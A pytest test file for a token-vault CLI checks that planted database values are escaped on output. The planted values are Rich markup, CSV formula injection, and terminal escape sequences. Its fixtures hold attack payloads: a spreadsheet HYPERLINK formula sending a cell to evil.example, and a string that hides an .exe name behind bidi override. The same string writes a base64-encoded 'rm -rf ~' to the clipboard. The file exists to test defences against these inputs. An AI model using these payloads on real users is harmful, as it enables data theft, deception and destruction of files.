"""Data the ETL (or any producer) wrote is data to the `tokenvault` command, never instructions.

The rows here are planted as the database admin, standing in for what a producer can send or
what the ETL's own role can insert: markup, spreadsheet formulas, tokens in a column that is
not a token column. Values given to `tokenize` stay out of every process's command line.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import subprocess
import uuid
from collections.abc import Sequence

import psycopg

from tests.cli.conftest import REPO, TOKENVAULT, CliStack
from vault_service.domain.audit import FETCH_SAW


def fresh_ip() -> str:
    n = uuid.uuid4().int
    return f"10.{n % 250}.{(n >> 8) % 250}.{(n >> 16) % 250 + 1}"


def tokenize_ip(stack: CliStack, value: str) -> str:
    """The ETL identity's token for `value` (the real vault), the value on standard input."""
    done = stack.as_("etl-service", "tokenize", "--type", "ip", "-o", "json", "-", stdin=value + "\n")
    assert done.returncode == 0, done.stderr
    return str(json.loads(done.stdout)[0]["token"])


def plant(stack: CliStack, tag: str, rows: Sequence[tuple[str, str | None]]) -> None:
    """Insert (user_id, masked_ip) rows as the admin, with event ids `<tag>-<n>`.

    As the database owner can: user_logins' CHECK (migration 0026) refuses control characters
    in new rows, so it is dropped for the insert and put back NOT VALID in the same transaction,
    as it stands over rows loaded before it - which the CLI must still print safely.
    """
    with psycopg.connect(stack.env["PG_ADMIN_DSN"]) as conn:
        found = conn.execute(
            "SELECT pg_get_constraintdef(oid) FROM pg_constraint WHERE conname = 'user_logins_printable'"
        ).fetchone()
        assert found, "migration 0026's constraint is missing"
        conn.execute("ALTER TABLE user_logins DROP CONSTRAINT user_logins_printable")
        for n, (user_id, masked_ip) in enumerate(rows):
            conn.execute(
                "INSERT INTO user_logins (user_id, device_type, masked_ip, event_id) VALUES (%s, 'android', %s, %s)",
                (user_id, masked_ip, f"{tag}-{n:02d}"),
            )
        conn.execute(f"ALTER TABLE user_logins ADD CONSTRAINT user_logins_printable {found[0]}")  # NOT VALID


def detokenize_audit(stack: CliStack, purpose: str) -> list[tuple[str, int]]:
    """(outcome, items) of the Detokenize audit rows written under `purpose`."""
    with psycopg.connect(stack.env["PG_ADMIN_DSN"]) as conn:
        rows = conn.execute(
            "SELECT outcome, item_count FROM vault.audit_log WHERE purpose = %s AND action = 'detokenize'",
            (purpose,),
        ).fetchall()
    return [(str(outcome).split(FETCH_SAW)[0], int(items)) for outcome, items in rows]  # not the fetch's audit id


MARKUP = ["[/]", "[bold]x", "[link=https://evil.example/]click here[/link]", "[black on black]hidden"]


def test_markup_in_values_is_printed_literally_in_a_table(cli_stack: CliStack) -> None:
    tag, ip = f"markup-{uuid.uuid4().hex[:8]}", fresh_ip()
    token = tokenize_ip(cli_stack, ip)
    plant(cli_stack, tag, [(m, token) for m in MARKUP] + [("esc\x1b]8;;https://evil.example/\x07", token)])
    sql = f"SELECT user_id, device_type AS \"[red]kind\", masked_ip FROM user_logins WHERE event_id LIKE '{tag}-%'"
    done = cli_stack.as_("analyst", "reveal", "--purpose", "CASE-600", "--query", sql)
    assert done.returncode == 0, done.stderr[-2000:]
    for text in MARKUP:
        assert text in done.stdout, text
    assert ip in done.stdout and "[red]kind" in done.stdout  # values and column names alike
    assert "\x1b" not in done.stdout and "\x07" not in done.stdout  # control characters made visible
    assert "esc\\x1b]8;;https://evil.example/\\x07" in done.stdout
    plain = cli_stack.as_("analyst", "reveal", "--purpose", "CASE-601", token)
    assert plain.returncode == 0 and ip in plain.stdout


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_prefixed(cli_stack: CliStack) -> None:
    tag, ip = f"formula-{uuid.uuid4().hex[:8]}", fresh_ip()
    token = tokenize_ip(cli_stack, ip)
    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    plant(cli_stack, tag, [(f, token) for f in formulas] + [("plain-user", token)])
    sql = f"SELECT event_id, user_id, masked_ip FROM user_logins WHERE event_id LIKE '{tag}-%' ORDER BY event_id"
    done = cli_stack.as_("analyst", "reveal", "--purpose", "CASE-602", "-o", "csv", "--query", sql)
    assert done.returncode == 0, done.stderr[-2000:]
    rows = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
    # (the captured output is text: \r read as \n; a \r left unquoted would have split its row in two)
    assert [r["user_id"] for r in rows] == ["'" + f.replace("\r", "\n") for f in formulas] + ["plain-user"]
    assert {r["masked_ip"] for r in rows} == {ip}
    as_json = cli_stack.as_("analyst", "reveal", "--purpose", "CASE-602", "-o", "json", "--query", sql)
    assert [r["user_id"] for r in json.loads(as_json.stdout)] == [*formulas, "plain-user"]  # JSON is exact
    assert "spreadsheet" in cli_stack.run("reveal", "--help").stdout  # the neutralizing is documented


def test_a_token_planted_in_another_column_is_revealed_only_when_named(cli_stack: CliStack) -> None:
    tag, ip = f"planted-{uuid.uuid4().hex[:8]}", fresh_ip()
    token = tokenize_ip(cli_stack, ip)  # the ETL may tokenize any value and insert rows
    plant(cli_stack, tag, [(token, None)] * 3)
    sql = f"SELECT user_id, device_type FROM user_logins WHERE event_id LIKE '{tag}-%'"
    purpose = f"CASE-{uuid.uuid4().int % 10**6}"
    done = cli_stack.as_("analyst", "reveal", "--purpose", purpose, "-o", "json", "--query", sql)
    assert done.returncode == 0, done.stderr
    assert [r["user_id"] for r in json.loads(done.stdout)] == [token] * 3  # printed as it is
    assert "user_id" in done.stderr and "--columns" in done.stderr  # says why it was not revealed
    assert detokenize_audit(cli_stack, purpose) == []  # nothing was sent to the vault

    named = cli_stack.as_("analyst", "reveal", "--purpose", purpose + "-2", "-o", "json", "--columns", "user_id",
                          "--query", sql)  # fmt: skip
    assert named.returncode == 0, named.stderr
    assert [r["user_id"] for r in json.loads(named.stdout)] == [ip] * 3
    assert detokenize_audit(cli_stack, purpose + "-2") == [("ok: 1 revealed, 0 refused", 1)]


def test_columns_must_be_in_the_result_and_hold_only_tokens(cli_stack: CliStack) -> None:
    sql = "SELECT event_id, masked_ip FROM user_logins WHERE masked_ip IS NOT NULL LIMIT 3"
    missing = cli_stack.as_("analyst", "reveal", "-p", "CASE-603", "--columns", "masked_ipp", "--query", sql)
    assert missing.returncode == 1 and "masked_ipp" in missing.stderr and "event_id, masked_ip" in missing.stderr
    not_tokens = cli_stack.as_("analyst", "reveal", "-p", "CASE-603", "--columns", "event_id", "--query", sql)
    assert not_tokens.returncode == 1 and "event_id" in not_tokens.stderr and "not tokens" in not_tokens.stderr
    assert detokenize_audit(cli_stack, "CASE-603") == []


def test_tokenize_refuses_values_on_the_command_line_and_says_how(cli_stack: CliStack) -> None:
    ip = fresh_ip()
    for args in (["--type", "ip", ip], ["--type", "ip", "-", ip]):
        done = cli_stack.as_("etl-service", "tokenize", *args, stdin=ip + "\n")
        assert done.returncode == 2, done.stdout
        says = done.stderr
        assert "printf '%s\\n'" in says and "| tokenvault" in says and "tokenize --type ip -" in says
        assert ip not in done.stdout + done.stderr
    assert tokenize_ip(cli_stack, ip).startswith("ip_")  # standard input works


CONTROLS = "u\x1b[1A\x1b[2K\x1b]0;all clear\x07\x1b]52;c;cm0gLXJmIH4K\x07\u202egnp.exe\x9b31m"
"""A planted row's text (attack 18): erase the line above, set the window title, write the clipboard, bidi, C1 CSI."""
RAW = ("\x1b", "\x07", "\u202e", "\x9b")


def _on_a_terminal(stack: CliStack, *args: str) -> tuple[int, str]:
    """`tokenvault --stack DIR ARGS` printing to a pseudo-terminal, as an analyst runs it: its exit and output."""
    leader, follower = pty.openpty()
    with subprocess.Popen(
        [str(TOKENVAULT), "--stack", str(stack.state_dir), *args],
        stdout=follower,
        stderr=subprocess.DEVNULL,
        cwd=REPO,
        env={**os.environ, "COLUMNS": "200"},
    ) as done:
        os.close(follower)
        printed = b""
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # the terminal closed with the process
                break
            if not chunk:
                break
            printed += chunk
        code = done.wait(timeout=300)
    os.close(leader)
    return code, printed.decode("utf-8", errors="replace")


def test_csv_on_a_terminal_and_query_errors_show_a_planted_rows_controls_escaped(cli_stack: CliStack) -> None:
    tag = f"controls-{uuid.uuid4().hex[:8]}"
    plant(cli_stack, tag, [(CONTROLS, None)])
    sql = f"SELECT event_id, user_id FROM user_logins WHERE event_id LIKE '{tag}-%'"
    code, printed = _on_a_terminal(
        cli_stack, "--as", "analyst", "reveal", "-p", "CASE-604", "-o", "csv", "--query", sql
    )
    assert code == 0, printed
    assert [c for c in RAW if c in printed] == []
    assert "u\\x1b[1A\\x1b[2K\\x1b]0;all clear\\x07" in printed and "\\u202egnp.exe\\x9b31m" in printed

    piped = cli_stack.as_("analyst", "reveal", "-p", "CASE-604", "-o", "csv", "--query", sql)
    assert piped.returncode == 0 and CONTROLS in piped.stdout  # to a file or a program: the data exactly

    cast = f"SELECT user_id::int FROM user_logins WHERE event_id LIKE '{tag}-%'"  # Postgres quotes the value
    failed = cli_stack.as_("analyst", "reveal", "-p", "CASE-605", "--query", cast)
    assert failed.returncode == 1 and "the query failed: invalid input syntax for type integer" in failed.stderr
    assert [c for c in RAW if c in failed.stderr] == [] and "\\x1b]52;c;" in failed.stderr
